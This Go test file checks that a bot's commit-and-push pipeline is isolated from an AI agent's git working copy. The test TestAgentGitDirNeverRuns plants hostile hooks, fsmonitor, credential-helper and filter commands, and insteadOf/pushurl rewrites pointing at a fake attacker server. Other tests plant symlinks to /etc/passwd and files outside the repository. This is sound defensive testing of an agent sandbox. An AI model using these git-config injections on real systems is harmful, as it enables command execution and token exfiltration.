package run

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/alchemic-studio/alfred/forges"
)

// boundaryCheckout is a write phase's working copy of alice/demo on a git
// forge over HTTP, the token tok-s3cret.
func boundaryCheckout(t *testing.T) (*gitForge, *Repos, *Worktree, forges.Project, Remote) {
	t.Helper()
	ctx := context.Background()
	g := newGitForge(t, "alfred", "tok-s3cret")
	g.seed(t, "alice", "demo")
	p := forges.Project{Forge: "forgejo", Owner: "alice", Name: "demo"}
	remote := Remote{URL: g.srv.URL + "/alice/demo.git", Username: "alfred", Password: "tok-s3cret"}
	repos := &Repos{Base: t.TempDir(), Name: "Alfred", Email: "alfred@example.invalid"}
	if _, err := repos.Fetch(ctx, p, remote); err != nil {
		t.Fatal(err)
	}
	wt, err := repos.Checkout(ctx, p, remote, "run-1", "agent/issue-7-x", "main", true)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = wt.Remove() })
	return g, repos, wt, p, remote
}

// attacker is a server that counts every request it gets.
func attacker(t *testing.T) (*httptest.Server, *atomic.Int32) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// TestAgentGitDirNeverRuns: an agent that rewrites its working copy's .git
// (fsmonitor, hooks, include.path, a credential helper, a filter, pushurl
// and the origin URL pointing at its own server) gets no command run by the
// bot's commit and push, and the token goes nowhere but the forge; the
// legitimate change lands.
func TestAgentGitDirNeverRuns(t *testing.T) {
	ctx := context.Background()
	g, _, wt, _, _ := boundaryCheckout(t)
	evil, hits := attacker(t)
	marker := filepath.Join(t.TempDir(), "pwned")
	touch := "touch " + marker

	hooks := filepath.Join(wt.Dir, ".git", "hooks")
	for _, h := range []string{"pre-commit", "pre-push", "post-commit", "reference-transaction", "pre-auto-gc"} {
		writeExec(t, filepath.Join(hooks, h), "#!/bin/sh\n"+touch+"\n")
	}
	included := filepath.Join(wt.Dir, ".git", "evil.inc")
	os.WriteFile(included, []byte("[core]\n\tfsmonitor = "+touch+"\n"), 0o644)
	appendFile(t, filepath.Join(wt.Dir, ".git", "config"), strings.Join([]string{
		"[core]", "\tfsmonitor = " + touch, "\thooksPath = " + hooks, "\tsshCommand = " + touch,
		"[include]", "\tpath = " + included,
		"[credential]", "\thelper = !" + touch,
		"[filter \"x\"]", "\tclean = " + touch, "\tsmudge = " + touch, "\trequired = true",
		"[remote \"origin\"]", "\tpushurl = " + evil.URL + "/steal.git",
		"[url \"" + evil.URL + "/\"]", "\tinsteadOf = " + g.srv.URL + "/",
		"\tpushInsteadOf = " + g.srv.URL + "/", "",
	}, "\n"))
	os.WriteFile(filepath.Join(wt.Dir, ".gitattributes"), []byte("* filter=x\n"), 0o644)
	os.WriteFile(filepath.Join(wt.Dir, "feature.go"), []byte("package demo\n"), 0o644)

	if changed, err := wt.CommitAll(ctx, "feat: the feature"); err != nil || !changed {
		t.Fatalf("commit: %v %v", changed, err)
	}
	if err := wt.Push(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a command of the agent's .git ran on the bot's host")
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the attacker's server got %d request(s)", n)
	}
	bare := filepath.Join(g.root, "alice", "demo.git")
	if got := run(t, bare, "git", "show", "--name-only", "--format=%an|%s", "agent/issue-7-x"); got != "Alfred|feat: the feature\n\n.gitattributes\nfeature.go" {
		t.Fatalf("the forge's branch: %q", got)
	}
}

// TestAgentObjectRewriteStaysInItsCopy: the agent's clone copies its
// objects, so an object it rewrites in place changes neither the cache nor
// the next run's checkout.
func TestAgentObjectRewriteStaysInItsCopy(t *testing.T) {
	ctx := context.Background()
	_, repos, wt, p, remote := boundaryCheckout(t)
	var rewritten int
	filepath.WalkDir(filepath.Join(wt.Dir, ".git", "objects"), func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.Contains(path, "info") {
			return err
		}
		os.Chmod(path, 0o644)
		f, err := os.OpenFile(path, os.O_WRONLY, 0) // in place: a hard link would carry it
		if err != nil {
			t.Fatal(err)
		}
		f.WriteAt([]byte("rewritten by the agent"), 0)
		f.Close()
		rewritten++
		return nil
	})
	if rewritten == 0 {
		t.Fatal("no object to rewrite")
	}
	run(t, "", "git", "--git-dir", repos.cacheDir(p), "fsck", "--full", "--strict")
	next, err := repos.Checkout(ctx, p, remote, "run-2", "agent/issue-7-x", "main", true)
	if err != nil {
		t.Fatal(err)
	}
	defer next.Remove()
	if b, err := os.ReadFile(filepath.Join(next.Dir, "README.md")); err != nil || string(b) != "demo\n" {
		t.Fatalf("the next checkout's README: %q %v", b, err)
	}
}

// TestStageRefuses: what the change may not carry is refused with a reason
// a person can act on, and the rest of the change is staged.
func TestStageRefuses(t *testing.T) {
	tests := []struct {
		name, path, reason string
		make               func(t *testing.T, dir string)
	}{
		{"a FIFO", "pipe", "is a FIFO, not a regular file", func(t *testing.T, dir string) {
			if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644); err != nil {
				t.Fatal(err)
			}
		}},
		{"a link to a host file", "passwd", "is a link to /etc/passwd, outside the repository", func(t *testing.T, dir string) {
			os.Symlink("/etc/passwd", filepath.Join(dir, "passwd"))
		}},
		{"a link up and out", "up", "is a link to ../../secret, outside the repository", func(t *testing.T, dir string) {
			os.Symlink("../../secret", filepath.Join(dir, "up"))
		}},
		{"a link into .git", "cfg", "is a link into .git", func(t *testing.T, dir string) {
			os.Symlink(".git/config", filepath.Join(dir, "cfg"))
		}},
		{"a nested repository", "vendor/lib", "is a nested git repository", func(t *testing.T, dir string) {
			run(t, "", "git", "init", "--quiet", filepath.Join(dir, "vendor", "lib"))
			os.WriteFile(filepath.Join(dir, "vendor", "lib", "x"), []byte("x"), 0o644)
			run(t, filepath.Join(dir, "vendor", "lib"), "git", "add", "x")
			run(t, filepath.Join(dir, "vendor", "lib"), "git", "commit", "-qm", "x")
		}},
		{"a file over the bound", "big.bin", "over the 50 MiB", func(t *testing.T, dir string) {
			f, _ := os.Create(filepath.Join(dir, "big.bin"))
			f.Truncate(10 << 30) // 10 GiB, sparse: never read
			f.Close()
		}},
		{"a device", "zero", "is a character device, not a regular file", func(t *testing.T, dir string) {
			if os.Geteuid() != 0 {
				t.Skip("making a device needs root (the suite runs as root)")
			}
			if err := syscall.Mknod(filepath.Join(dir, "zero"), syscall.S_IFCHR|0o666, 1<<8|5); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			_, _, wt, _, _ := boundaryCheckout(t)
			tt.make(t, wt.Dir)
			os.WriteFile(filepath.Join(wt.Dir, "ok.go"), []byte("package demo\n"), 0o644)
			ch, err := wt.Stage(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if len(ch.Refused) != 1 || ch.Refused[0].Path != tt.path || !strings.Contains(ch.Refused[0].Reason, tt.reason) {
				t.Fatalf("refused %+v, want %s: %s", ch.Refused, tt.path, tt.reason)
			}
			var paths []string
			for _, f := range ch.Files {
				paths = append(paths, f.Path)
			}
			if !slices.Equal(paths, []string{"ok.go"}) {
				t.Fatalf("staged %q, want only ok.go", paths)
			}
			if _, err := wt.CommitAll(ctx, "x"); err == nil || !strings.Contains(err.Error(), tt.path) {
				t.Fatalf("CommitAll = %v, want a refusal naming %s", err, tt.path)
			}
		})
	}
}

// TestStageFolderBecameLink: a tracked folder the agent replaced by a link
// to a host folder is not read through: its files are deleted from the
// change and the link is refused.
func TestStageFolderBecameLink(t *testing.T) {
	ctx := context.Background()
	_, _, wt, _, _ := boundaryCheckout(t)
	host := t.TempDir()
	os.WriteFile(filepath.Join(host, "README.md"), []byte("a host file\n"), 0o644)
	os.Remove(filepath.Join(wt.Dir, "README.md"))
	os.Symlink(host, filepath.Join(wt.Dir, "README.md")) // the tracked file, now a link to a folder
	ch, err := wt.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(ch.Refused) != 1 || ch.Refused[0].Path != "README.md" {
		t.Fatalf("refused %+v", ch.Refused)
	}
	if len(ch.Files) != 1 || ch.Files[0].Status != 'D' {
		t.Fatalf("files %+v, want README.md deleted", ch.Files)
	}
}

func writeExec(t *testing.T, path, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

func appendFile(t *testing.T, path, text string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
}
